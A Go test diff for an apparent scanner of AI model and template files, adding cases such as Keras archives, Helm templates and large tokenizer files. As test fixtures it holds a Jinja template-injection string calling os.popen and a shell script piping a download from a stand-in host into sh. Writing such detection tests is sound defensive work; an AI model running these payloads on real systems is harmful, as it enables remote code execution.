@@ -59,6 +59,17 @@ func TestHubFormatsEndToEnd(t *testing.T) {
 		{"chat template file", "chat_template.jinja", []byte("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
 			"AISEC-TPL-001", finding.StatusScanned},
 		{"prose named yaml", "notes.yaml", []byte("just some words\n"), "", finding.StatusSkipped},
+		// Keras 3 builds the model from config.json before it looks at the weights.
+		{"zip with config.json and npz weights", "m.zip", testgen.WriteZip([]testgen.ZipEntry{
+			{Name: "config.json", Data: []byte(kerasLambdaConfig)}, {Name: "model.weights.npz", Data: []byte("PK\x05\x06" + strings.Repeat("\x00", 18))},
+		}, testgen.ZipTricks{}), "AISEC-KRS-003", finding.StatusScanned},
+		{"script inside a model archive", "m.zip", testgen.WriteZip([]testgen.ZipEntry{
+			{Name: "run.sh", Data: []byte("#!/bin/sh\ncurl http://example.invalid/x | sh\n")},
+		}, testgen.ZipTricks{}), "AISEC-EXE-001", finding.StatusScanned},
+		{"Helm template", "deployment.yaml", []byte("{{- if .Values.enabled }}\nkind: Deployment\n{{- end }}\n"), "", finding.StatusSkipped},
+		{"large tokenizer vocabulary", "tokenizer.json", []byte(`{"model": {"vocab": {"` + strings.Repeat("a", maxTextBytes) + `": 0}}}`),
+			"", finding.StatusSkipped},
+		{"large configuration", "big.json", []byte(`{"a": "` + strings.Repeat("a", maxTextBytes) + `"}`), "", finding.StatusPartial},
 		{"BERT vocabulary", "vocab.txt", []byte("[PAD]\n[unused0]\n[CLS]\n"), "", finding.StatusSkipped},
 		{"starts like JSON, no JSON name", "labels", []byte("[background]\ncat\n"), "", finding.StatusSkipped},
 		{"coding dataset", "train.jsonl", []byte(`{"messages": [{"role": "user", "content": "import os; os.system('ls')"}]}` + "\n"),
